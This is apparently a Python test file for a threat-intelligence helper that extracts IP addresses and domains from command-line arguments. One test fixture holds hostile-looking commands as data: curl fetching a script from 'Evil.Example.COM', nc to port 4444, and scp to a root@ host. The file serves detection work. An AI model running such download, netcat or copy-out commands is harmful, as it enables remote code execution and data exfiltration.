"""Addresses and domains named on command lines, found without regular expressions."""

from __future__ import annotations

from cloudward.intel.command_line import MAX_CANDIDATES, named_hosts


def test_urls_host_ports_and_user_at_host() -> None:
    ips, domains = named_hosts(["curl", "-s", "http://Evil.Example.COM:8080/x.sh", "nc", "203.0.113.9", "4444",
                                "scp", "f", "root@files.corp.example:/tmp", "http://[2001:db8::5]:80/"])
    assert ips == ["203.0.113.9", "2001:db8::5"]
    assert "evil.example.com" in domains and "files.corp.example" in domains


def test_not_hosts() -> None:
    ips, domains = named_hosts(["sleep", "1.5", "999.1.1.1", "v1.2.3", "-", "..."])
    assert ips == [] and "1.5" not in domains and "999.1.1.1" not in domains


def test_program_itself_is_not_looked_up_and_work_is_bounded() -> None:
    assert named_hosts(["evil.example"]) == ([], [])
    ips, domains = named_hosts(["x", *(f"h{i}.example.com" for i in range(500))])
    assert len(ips) + len(domains) == MAX_CANDIDATES
    ips, domains = named_hosts(["x", "a" * 100_000 + ".example"])
    assert ips == [] and domains == []
